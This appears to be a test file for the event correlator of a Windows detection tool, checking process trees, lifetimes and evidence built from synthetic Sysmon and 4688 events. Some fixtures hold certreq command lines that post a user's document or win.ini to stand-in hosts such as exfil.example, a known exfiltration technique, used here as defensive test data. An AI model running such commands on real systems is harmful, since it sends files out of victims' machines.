import { test } from 'node:test';
import assert from 'node:assert/strict';
import { Correlator } from '../../src/correlate/index.js';
import { ProcessIndex } from '../../src/correlate/processIndex.js';
import type { Alert } from '../../src/model/alert.js';
import type { WinEvent } from '../../src/model/event.js';
import { BUILTIN, CERTREQ, CMD, EXPLORER, detections, sec4688, sec4689, sysmonDns, sysmonEnd, sysmonFile, sysmonNetwork, sysmonStart } from './support/events.js';

type Node = { pid?: number; entity_id?: string; executable?: string; command_line?: string; start?: string; end?: string; exit_code?: number };
type Tree = { process: Node; parents: Node[]; children: Node[]; children_total?: number };
type Life = { start: string; end?: string; still_running: boolean; duration_ms?: number; exit_code?: number; exit_status?: string };

/** Runs a scan the way `scan` does: observe every event, alert on the `alertOn` ones, finalize. */
function scan(events: WinEvent[], alertOn: (ev: WinEvent) => boolean, c = new Correlator()): Alert[] {
  const raised: Alert[] = [];
  for (const ev of events) {
    c.observe(ev);
    if (alertOn(ev)) raised.push(...c.alertsFor(ev, detections(ev, BUILTIN)));
  }
  return c.finalize(raised);
}
const isCertreq = (ev: WinEvent): boolean => String(ev.data['Image'] ?? ev.data['NewProcessName'] ?? '').toLowerCase().endsWith('certreq.exe') && [1, 4688].includes(ev.system.eventId);
const tree = (a: Alert): Tree => a.context!.process_tree as Tree;
const life = (a: Alert): Life => a.context!.lifetime as Life;

/** A Sysmon chain explorer → cmd → certreq (+ a child), with network, DNS and file evidence and the end. */
function sysmonStory(): WinEvent[] {
  return [
    sysmonStart({ time: '2026-03-01T10:00:00.000Z', guid: 'g-explorer', pid: 4000, image: EXPLORER, cmd: 'explorer.exe' }),
    sysmonStart({ time: '2026-03-01T10:05:00.000Z', guid: 'g-cmd', pid: 5000, ppid: 4000, parentGuid: 'g-explorer', image: CMD, cmd: 'cmd.exe' }),
    sysmonStart({ time: '2026-03-01T10:06:00.000Z', guid: 'g-certreq', pid: 6000, ppid: 5000, parentGuid: 'g-cmd', image: CERTREQ, ofn: 'CertReq.exe', cmd: 'certreq -Post -config https://exfil.example/u C:\\Users\\bob\\Documents\\a.xlsx out.txt' }),
    sysmonDns({ time: '2026-03-01T10:06:00.100Z', guid: 'g-certreq', pid: 6000, query: 'exfil.example', results: '::ffff:203.0.113.9;' }),
    sysmonNetwork({ time: '2026-03-01T10:06:00.200Z', guid: 'g-certreq', pid: 6000, ip: '203.0.113.9', hostname: 'exfil.example', port: 443 }),
    sysmonFile({ time: '2026-03-01T10:06:01.000Z', guid: 'g-certreq', pid: 6000, path: 'C:\\Users\\bob\\out.txt' }),
    sysmonStart({ time: '2026-03-01T10:06:01.500Z', guid: 'g-conhost', pid: 6100, ppid: 6000, parentGuid: 'g-certreq', image: 'C:\\Windows\\System32\\conhost.exe', cmd: 'conhost.exe 0xffffffff' }),
    sysmonEnd({ time: '2026-03-01T10:06:02.500Z', guid: 'g-certreq', pid: 6000, image: CERTREQ }),
  ];
}

test('Sysmon: parent chain by ProcessGuid, children, lifetime and evidence of the same process', () => {
  const [a] = scan(sysmonStory(), isCertreq);
  assert.ok(a);
  const t = tree(a);
  assert.deepEqual(t.parents.map((p) => p.entity_id), ['g-cmd', 'g-explorer']);
  assert.deepEqual(t.children.map((c) => c.entity_id), ['g-conhost']);
  assert.equal(t.process.pid, 6000);
  assert.deepEqual(life(a), { start: '2026-03-01T10:06:00.000Z', end: '2026-03-01T10:06:02.500Z', still_running: false, duration_ms: 2500, end_event: { provider: 'Microsoft-Windows-Sysmon', event_id: 5, record_id: (life(a) as unknown as { end_event: { record_id: number } }).end_event.record_id } });
  const ev = a.context!['evidence'] as { network: Record<string, unknown>[]; dns: Record<string, unknown>[]; files: Record<string, unknown>[] };
  assert.equal(ev.network[0]!['destination_ip'], '203.0.113.9');
  assert.equal(ev.network[0]!['destination_port'], 443);
  assert.equal(ev.dns[0]!['query'], 'exfil.example');
  assert.equal(ev.files[0]!['path'], 'C:\\Users\\bob\\out.txt');
});

test('the same answer whatever the file order: reversed, shuffled, termination before creation', () => {
  const story = sysmonStory();
  const expected = scan(story, isCertreq)[0]!;
  const orders = [
    [...story].reverse(),
    [story[7]!, story[3]!, story[6]!, story[2]!, story[0]!, story[5]!, story[1]!, story[4]!],
  ];
  for (const order of orders) {
    const [a] = scan(order, isCertreq);
    assert.deepEqual(tree(a!), tree(expected));
    assert.deepEqual(life(a!), life(expected));
    assert.deepEqual(a!.context!['evidence'], expected.context!['evidence']);
  }
});

test('without finalize (serve), context is what is known at the time; a missing end means still running', () => {
  const c = new Correlator();
  const story = sysmonStory();
  let online: Alert | undefined;
  for (const ev of story) {
    c.observe(ev);
    if (isCertreq(ev)) online = c.alertsFor(ev, detections(ev, BUILTIN))[0];
  }
  assert.equal(life(online!).still_running, true);
  assert.deepEqual(tree(online!).children, []);
  const [final] = c.finalize([online!]);
  assert.equal(life(final!).still_running, false);
});

test('Security 4688: parent by host + PID + time; PID reuse picks the latest earlier start only', () => {
  const events = [
    // PID 0x500 is cmd.exe, exits; then the PID is reused by notepad, which starts certreq; later reused again.
    sec4688({ time: '2026-03-01T09:00:00Z', pid: 0x500, ppid: 0x4, image: CMD, cmd: 'cmd.exe /c old' }),
    sec4689({ time: '2026-03-01T09:01:00Z', pid: 0x500, image: CMD }),
    sec4688({ time: '2026-03-01T09:30:00Z', pid: 0x500, ppid: 0x4, image: 'C:\\Windows\\notepad.exe', cmd: 'notepad.exe' }),
    sec4688({ time: '2026-03-01T09:40:00Z', pid: 0x900, ppid: 0x500, image: CERTREQ, cmd: 'certreq -Post -config https://x.example/ c:\\windows\\win.ini o.txt' }),
    sec4689({ time: '2026-03-01T09:40:03Z', pid: 0x900, image: CERTREQ, status: 0x80070057 }),
    sec4688({ time: '2026-03-01T11:00:00Z', pid: 0x500, ppid: 0x4, image: 'C:\\Windows\\System32\\svchost.exe', cmd: 'svchost.exe' }),
    // PID 0x900 reused later: its termination must not be taken for the certreq's.
    sec4688({ time: '2026-03-01T12:00:00Z', pid: 0x900, ppid: 0x4, image: 'C:\\Windows\\System32\\calc.exe', cmd: 'calc.exe' }),
    sec4689({ time: '2026-03-01T12:30:00Z', pid: 0x900, image: 'C:\\Windows\\System32\\calc.exe' }),
  ];
  for (const order of [events, [...events].reverse()]) {
    const [a] = scan(order, isCertreq);
    const t = tree(a!);
    assert.equal(t.parents[0]!.executable, 'C:\\Windows\\notepad.exe');
    assert.equal(t.parents[0]!.start, '2026-03-01T09:30:00Z');
    assert.deepEqual(life(a!), { start: '2026-03-01T09:40:00Z', end: '2026-03-01T09:40:03Z', still_running: false, duration_ms: 3000, exit_code: 0x80070057, exit_status: '0x80070057', end_event: (life(a!) as unknown as { end_event: unknown }).end_event });
  }
});

test('a parent that had already exited is not the parent (its PID was reused by an unseen process)', () => {
  const events = [
    sec4688({ time: '2026-03-01T09:00:00Z', pid: 0x500, ppid: 0x4, image: CMD, cmd: 'cmd.exe' }),
    sec4689({ time: '2026-03-01T09:01:00Z', pid: 0x500, image: CMD }),
    sec4688({ time: '2026-03-01T09:40:00Z', pid: 0x900, ppid: 0x500, image: CERTREQ, cmd: 'certreq -accept a.cer' }),
  ];
  const [a] = scan(events, isCertreq);
  // Not the exited cmd.exe: only what the child's own event says about its creator.
  assert.deepEqual(tree(a!).parents, [{ pid: 0x500, source: 'child event' }]);
});

test('hosts interleaved: the same PIDs and GUID-less lookups never cross hosts', () => {
  const events: WinEvent[] = [];
  for (const host of ['SRV01', 'SRV02', 'SRV03']) events.push(sec4688({ host, time: '2026-03-01T09:00:00Z', pid: 0x500, ppid: 0x4, image: `C:\\${host}\\parent.exe`, cmd: 'p' }));
  for (const host of ['SRV03', 'SRV01', 'SRV02']) events.push(sec4688({ host, time: '2026-03-01T09:10:00Z', pid: 0x900, ppid: 0x500, image: CERTREQ, cmd: `certreq -accept ${host}.cer` }));
  events.push(sec4689({ host: 'SRV02', time: '2026-03-01T09:10:05Z', pid: 0x900, image: CERTREQ }));
  const alerts = scan(events, isCertreq);
  assert.equal(alerts.length, 3);
  for (const a of alerts) {
    const host = a.event.system.computer;
    assert.equal(tree(a).parents[0]!.executable, `C:\\${host}\\parent.exe`);
    assert.equal(life(a).still_running, host !== 'SRV02');
  }
});

test('children are capped and counted', () => {
  const events = [sysmonStart({ time: '2026-03-01T10:00:00Z', guid: 'p', pid: 1, image: CERTREQ, ofn: 'CertReq.exe', cmd: 'certreq -accept a' })];
  for (let i = 0; i < 30; i++) events.push(sysmonStart({ time: `2026-03-01T10:00:${String(i + 10).padStart(2, '0')}Z`, guid: `c${i}`, pid: 100 + i, ppid: 1, parentGuid: 'p', image: 'C:\\x.exe', cmd: 'x' }));
  const [a] = scan(events, (ev) => ev.data['ProcessGuid'] === '{p}');
  assert.equal(tree(a!).children.length, 20);
  assert.equal(tree(a!).children_total, 30);
});

test('the index is bounded: beyond capacity the oldest records are evicted', () => {
  const index = new ProcessIndex(1000);
  for (let i = 0; i < 5000; i++) index.add(sec4688({ time: new Date(Date.UTC(2026, 2, 1) + i * 1000).toISOString(), pid: i + 8, ppid: 4, image: 'C:\\x.exe', cmd: 'x' }));
  assert.equal(index.size, 1000);
  assert.equal(index.evicted, 4000);
  // The newest are still there, the oldest are gone.
  const newest = sec4688({ time: new Date(Date.UTC(2026, 2, 1) + 4999 * 1000).toISOString(), pid: 4999 + 8, ppid: 4, image: 'C:\\x.exe', cmd: 'x' });
  assert.ok(index.processOf(newest));
  const oldest = sec4688({ time: new Date(Date.UTC(2026, 2, 1)).toISOString(), pid: 8, ppid: 4, image: 'C:\\x.exe', cmd: 'x' });
  assert.equal(index.processOf(oldest), undefined);
});

test('a parent missing from the input is still named from the child event (Sysmon Parent*, 4688 ParentProcessName)', () => {
  const sys = sysmonStart({ time: '2026-03-01T10:00:00Z', guid: 'g1', pid: 10, ppid: 9, parentGuid: 'g0', parentImage: CMD, image: CERTREQ, ofn: 'CertReq.exe', cmd: 'certreq -accept a.cer' });
  const sec = sec4688({ time: '2026-03-01T10:00:00Z', pid: 0x20, ppid: 0x19, parentImage: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', image: CERTREQ, cmd: 'certreq -accept a.cer' });
  const alerts = scan([sys, sec], isCertreq);
  assert.deepEqual(tree(alerts[0]!).parents, [{ pid: 9, entity_id: 'g0', executable: CMD, source: 'child event' }]);
  assert.deepEqual(tree(alerts[1]!).parents, [{ pid: 0x19, executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', source: 'child event' }]);
});

test('newest-first input (Get-WinEvent order) with thousands of children of one parent, under eviction', () => {
  const c = new Correlator({ indexCapacity: 1000 });
  const base = Date.UTC(2026, 2, 1, 10);
  const children: WinEvent[] = [];
  for (let i = 0; i < 5000; i++) children.push(sec4688({ time: new Date(base + 1000 + i * 10).toISOString(), pid: 0x1000 + i * 4, ppid: 0x2a8, image: 'C:\\Windows\\System32\\svchost.exe', cmd: 'svchost.exe -k x' }));
  const parent = sec4688({ time: new Date(base).toISOString(), pid: 0x2a8, ppid: 0x4, image: 'C:\\Windows\\System32\\services.exe', cmd: 'services.exe' });
  const events = [...children.reverse(), parent];
  const raised: Alert[] = [];
  for (const ev of events) {
    c.observe(ev);
    if (ev === parent) raised.push(...c.alertsFor(ev, detections(ev, BUILTIN)));
  }
  const [a] = c.finalize(raised);
  // Eviction follows arrival: the first read (newest in time) went first; the 999 earliest children remain.
  assert.equal(tree(a!).children_total, 999);
  assert.equal(tree(a!).children[0]!.pid, 0x1000);
  assert.equal(c.stats().evicted, 4001);
});

test('a host logging both Sysmon 1 and 4688 lists each child once (the Sysmon record kept)', () => {
  const parent = sysmonStart({ host: 'DUAL', time: '2026-03-01T10:00:00.000Z', guid: 'gp', pid: 0x100, image: CERTREQ, ofn: 'CertReq.exe', cmd: 'certreq -accept a.cer' });
  const childSec = sec4688({ host: 'DUAL', time: '2026-03-01T10:00:01.003Z', pid: 0x200, ppid: 0x100, image: 'C:\\Windows\\System32\\conhost.exe', cmd: 'conhost.exe' });
  const childSys = sysmonStart({ host: 'DUAL', time: '2026-03-01T10:00:01.001Z', guid: 'gc', pid: 0x200, ppid: 0x100, parentGuid: 'gp', image: 'C:\\Windows\\System32\\conhost.exe', cmd: 'conhost.exe' });
  const other = sec4688({ host: 'DUAL', time: '2026-03-01T10:00:05Z', pid: 0x300, ppid: 0x100, image: 'C:\\Windows\\System32\\conhost.exe', cmd: 'conhost.exe' });
  const [a] = scan([parent, childSec, childSys, other], (ev) => ev === parent);
  assert.deepEqual(tree(a!).children.map((c) => [c.pid, c.entity_id]), [[0x200, 'gc'], [0x300, undefined]]);
});

test('odd field values (numbers, arrays, empty strings, empty host, bad time) never break observe or alertsFor', () => {
  const c = new Correlator();
  const odd: WinEvent = {
    system: { provider: 'Microsoft-Windows-Sysmon', channel: 'Microsoft-Windows-Sysmon/Operational', eventId: 1, timeCreated: 'not a time', computer: '' },
    data: { ProcessId: 42, ProcessGuid: ['{a}', '{b}'], Image: '', CommandLine: null, ParentProcessId: '0xZZ' },
    origin: { file: 'odd.json' },
  };
  c.observe(odd);
  const alerts = c.finalize(c.alertsFor(odd, detections(odd, BUILTIN)));
  assert.equal(alerts.length, 1);
  assert.equal(tree(alerts[0]!).process.pid, 42);
  assert.equal(tree(alerts[0]!).process.entity_id, 'a');
});
